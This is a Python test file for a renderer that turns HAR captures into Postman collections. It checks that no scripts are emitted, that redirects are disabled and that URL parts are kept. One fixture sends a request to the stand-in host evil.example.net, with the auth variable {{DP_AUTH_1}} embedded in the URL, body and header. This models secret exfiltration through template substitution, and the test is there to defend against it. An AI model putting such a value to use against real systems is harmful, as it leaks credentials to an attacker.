"""The collection is v2.1, without scripts, and capture text cannot name a variable."""

import json
from typing import Any

from diagpack.model.exchange import from_entry
from diagpack.model.repro import Slots, call_of
from diagpack.model.repro_plan import Plan
from diagpack.render.repro.postman import SCHEMA, collection
from tests.har_fixtures import har_entry


def rendered(**values: Any) -> dict[str, Any]:
    exchange, slots = from_entry(har_entry(**values)), Slots(["app.example.com"])
    call = call_of(exchange, "[har-1 #0]", slots)
    assert call is not None
    made: dict[str, Any] = json.loads(collection(Plan("har-1", (call,), call, "x", slots.variables, exchange), "Title"))
    assert made["info"]["schema"] == SCHEMA
    assert "event" not in json.dumps(made)
    return made


def test_text_that_names_a_variable_cannot_pull_it_anywhere() -> None:
    made = rendered(
        url="https://evil.example.net/?x={{DP_AUTH_1}}",
        method="POST",
        post="{{DP_AUTH_1}}",
        request_headers={"X": "{{DP_AUTH_1}}"},
    )

    assert "{{" not in json.dumps(made["item"])
    assert made["item"][0]["request"]["body"]["mode"] == "file"


def test_redirects_and_additions_of_the_client_are_off() -> None:
    behavior = rendered()["item"][0]["protocolProfileBehavior"]

    assert behavior["followRedirects"] is False
    assert behavior["disableUrlEncoding"] is True


def test_a_port_and_a_query_survive() -> None:
    url = rendered(url="http://[2001:db8::1]:8080/a//b?x=1&y&z=")["item"][0]["request"]["url"]

    assert (url["host"], url["port"], url["path"]) == (["[2001:db8::1]"], "8080", ["a", "", "b"])
    assert url["query"] == [{"key": "x", "value": "1"}, {"key": "y", "value": None}, {"key": "z", "value": ""}]
